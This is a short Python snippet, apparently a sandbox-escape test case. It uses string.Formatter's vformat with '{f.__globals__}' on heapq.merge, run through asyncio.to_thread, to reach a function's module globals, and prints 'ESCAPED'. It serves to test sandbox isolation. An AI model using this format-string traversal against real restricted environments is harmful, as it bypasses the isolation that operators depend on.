# String.Formatter's work called by a library frame.
import asyncio, heapq, string
print("ESCAPED", await asyncio.to_thread(string.Formatter().vformat, "{f.__globals__}", (), {"f": heapq.merge}))
